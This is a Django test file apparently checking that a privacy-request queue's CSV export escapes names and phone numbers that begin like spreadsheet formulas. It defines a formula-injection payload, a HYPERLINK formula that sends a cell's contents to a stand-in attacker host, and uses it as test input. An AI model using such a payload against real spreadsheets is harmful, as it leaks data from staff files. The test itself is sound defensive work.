"""The queue's CSV export: what a requester typed cannot become a formula in the staff's spreadsheet."""

import csv
import io

import pytest

from privacydesk.cases.services import case_submit
from privacydesk.cases.services.intake import Requester
from tests.cases.helpers import submission

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A2,"x")'


def test_a_name_written_as_a_formula_is_exported_as_text(staff_client, organization):
    requester = Requester(name=HYPERLINK, email="x@example.com", phone="+81312345678")
    case_submit(organization=organization, submission=submission(requester=requester))
    response = staff_client.get("/en/staff/export.csv")
    body = b"".join(response.streaming_content).decode("utf-8")
    assert body.startswith("\ufeff")
    header, row = list(csv.reader(io.StringIO(body[1:])))
    assert row[header.index("Name")] == "'" + HYPERLINK
    assert row[header.index("Telephone")] == "'+81312345678"
